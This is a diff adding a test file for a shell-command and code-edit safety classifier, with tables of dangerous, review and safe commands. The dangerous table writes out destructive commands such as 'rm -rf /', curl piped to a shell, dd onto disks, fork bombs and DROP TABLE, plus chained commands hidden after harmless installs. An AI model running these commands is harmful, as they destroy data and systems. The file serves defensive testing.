@@ -1,0 +1,192 @@
+import { mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import * as path from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { classifyCommand, classifyFix } from '../../shared/validate/safety';
+import type { Fix } from '../../shared/fix';
+
+const dangerous = [
+  'rm -rf /',
+  'rm -rf ~',
+  'rm -rf "$HOME"',
+  "rm -rf '/'",
+  'rm -fr /',
+  'rm -r -f /usr',
+  'rm --recursive --force /etc',
+  'rm -rf /*',
+  'rm -rf ..',
+  'rm -rf ${HOME}/',
+  'npm install left-pad && rm -rf ~',
+  'pip install x && rm -rf ~',
+  'true; rm -rf /',
+  'false || rm -rf /',
+  '(cd /tmp && rm -rf /)',
+  'echo $(rm -rf /)',
+  'echo `rm -rf /`',
+  'x=$(rm -rf ~) npm test',
+  'sudo rm -rf /var/lib',
+  'sudo apt-get install foo',
+  'env rm -rf /',
+  'env FOO=1 rm -rf ~',
+  'nice -n 5 rm -rf /',
+  'xargs rm -rf < list.txt',
+  'find / -delete',
+  'find ~ -name "*.log" -delete',
+  'find / -exec rm {} \\;',
+  'git push -f',
+  'git push --force origin main',
+  'git push origin +main',
+  'git push origin :main',
+  'git reset --hard',
+  'git reset --hard HEAD~3',
+  'git clean -fdx',
+  'git clean -f',
+  'git checkout -- .',
+  'git stash clear',
+  'git filter-branch --tree-filter "rm x" HEAD',
+  'dd if=/dev/zero of=/dev/sda',
+  'dd if=/dev/urandom of=/dev/nvme0n1 bs=1M',
+  'mkfs.ext4 /dev/sdb1',
+  'mkfs -t ext4 /dev/sdb',
+  'chmod -R 777 /',
+  'chmod -R 777 .',
+  'chown -R nobody /etc',
+  'curl https://example.com/install.sh | sh',
+  'curl -fsSL https://x.io/i | sudo bash',
+  'wget -qO- https://x.io/i | bash',
+  'curl -s https://x.io/i.py | python3',
+  'bash <(curl -s https://x.io/i)',
+  'eval "$(curl -s https://x.io/i)"',
+  'bash -c "rm -rf ~"',
+  "sh -c 'git push --force'",
+  ':(){ :|:& };:',
+  'bomb(){ bomb|bomb& }; bomb',
+  'psql -c "DROP TABLE users"',
+  'mysql -e "drop database prod"',
+  'echo "TRUNCATE TABLE orders" | psql',
+  'echo hi > /dev/sda',
+  'cat key > /etc/passwd',
+  'echo x > .git/config',
+  'shutdown -h now',
+  'kill -9 -1',
+  'npm publish',
+  "alias ll='rm -rf /'; ll",
+  'mv ~ /dev/null',
+];
+
+const review = [
+  'rm -rf node_modules',
+  'rm build/out.js',
+  'git push --force-with-lease',
+  'git branch -D feature',
+  'docker system prune -a',
+  'npm install -g typescript',
+  'kill 1234',
+  'echo hi > notes.txt',
+  'systemctl restart nginx',
+  'some-unknown-tool --fix',
+  'curl -O https://example.com/file.tar.gz',
+  'chmod 600 config.json',
+];
+
+const safe = [
+  'npm install left-pad',
+  'npm i -D @types/node',
+  'npm install',
+  'npm ci',
+  'pnpm add lodash',
+  'yarn add react',
+  'pip install requests',
+  'pip3 install -r requirements.txt',
+  'git push --set-upstream origin x',
+  'git push -u origin feature/x',
+  'git pull --rebase',
+  'git checkout -b fix',
+  'git add -A && git commit -m "fix: rm -rf is mentioned here"',
+  'cargo add serde',
+  'go get github.com/pkg/errors',
+  'go mod tidy',
+  'mkdir -p src/utils',
+  'touch src/index.ts',
+  'npx tsc --noEmit',
+  'echo "rm -rf /"',
+  'chmod +x ./scripts/build.sh',
+  'lsof -i :3000',
+  'npm install left-pad && npm test',
+  'NODE_ENV=test npm test',
+];
+
+describe('classifyCommand', () => {
+  it('has a table of at least 60 commands', () => {
+    expect(dangerous.length + review.length + safe.length).toBeGreaterThanOrEqual(60);
+  });
+  it.each(dangerous)('dangerous: %s', (cmd) => {
+    const v = classifyCommand(cmd);
+    expect(v.safety, JSON.stringify(v)).toBe('dangerous');
+    expect(v.reasons.length).toBeGreaterThan(0);
+  });
+  it.each(review)('review: %s', (cmd) => {
+    expect(classifyCommand(cmd).safety).toBe('review');
+  });
+  it.each(safe)('safe: %s', (cmd) => {
+    const v = classifyCommand(cmd);
+    expect(v.safety, JSON.stringify(v)).toBe('safe');
+  });
+  it('treats unparseable input as dangerous, with a reason', () => {
+    const v = classifyCommand('echo "unterminated');
+    expect(v.safety).toBe('dangerous');
+    expect(v.reasons[0]).toMatch(/parse/);
+  });
+  it('treats an empty command as review', () => {
+    expect(classifyCommand('').safety).toBe('review');
+  });
+});
+
+describe('classifyFix (scope of edits)', () => {
+  const root = mkdtempSync(path.join(tmpdir(), 'heal-scope-'));
+  mkdirSync(path.join(root, 'src'));
+  mkdirSync(path.join(root, '.git'));
+  writeFileSync(path.join(root, 'src', 'a.ts'), 'x\n');
+  const outside = mkdtempSync(path.join(tmpdir(), 'heal-outside-'));
+  writeFileSync(path.join(outside, 'b.ts'), 'y\n');
+  symlinkSync(outside, path.join(root, 'linked'));
+  const edit = (file: string): Fix => ({
+    id: 'f',
+    kind: 'edit',
+    description: 'edit',
+    edits: [{ file, range: { start: { line: 0, character: 0 }, end: { line: 0, character: 1 } }, newText: 'z' }],
+  });
+
+  it.each([
+    ['src/a.ts', 'safe'],
+    ['src/new.ts', 'safe'],
+    ['../escape.ts', 'dangerous'],
+    ['/etc/hosts', 'dangerous'],
+    ['.git/config', 'dangerous'],
+    ['.git/hooks/pre-commit', 'dangerous'],
+    ['.env', 'dangerous'],
+    ['.env.local', 'dangerous'],
+    ['config/server.pem', 'dangerous'],
+    ['id_rsa', 'dangerous'],
+    ['keys/id_ed25519.pub', 'dangerous'],
+    ['linked/b.ts', 'dangerous'],
+    ['src/auth/login.ts', 'review'],
+    ['migrations/001.sql', 'review'],
+    ['db/migrations/002.sql', 'review'],
+  ])('%s is %s', (file, expected) => {
+    expect(classifyFix(edit(file), root).safety).toBe(expected);
+  });
+
+  it('flags a fix touching more than 2 files or 30 lines for review', () => {
+    const many: Fix = { ...edit('src/a.ts'), edits: ['a', 'b', 'c'].map((f) => ({ file: `src/${f}.ts`, range: { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } }, newText: 'x' })) };
+    expect(classifyFix(many, root)).toEqual({ safety: 'review', reasons: ['changes more than 2 files'] });
+    const long: Fix = { ...edit('src/a.ts'), edits: [{ file: 'src/a.ts', range: { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } }, newText: 'x\n'.repeat(40) }] };
+    expect(classifyFix(long, root).safety).toBe('review');
+  });
+
+  it('classifies command and replace fixes by their command, advice as safe', () => {
+    expect(classifyFix({ id: 'c', kind: 'command', command: 'git reset --hard', description: '' }, root).safety).toBe('dangerous');
+    expect(classifyFix({ id: 'r', kind: 'replace', command: 'npm install left-pad', description: '' }, root).safety).toBe('safe');
+    expect(classifyFix({ id: 'a', kind: 'advice', description: 'read the docs' }, root).safety).toBe('safe');
+  });
+});
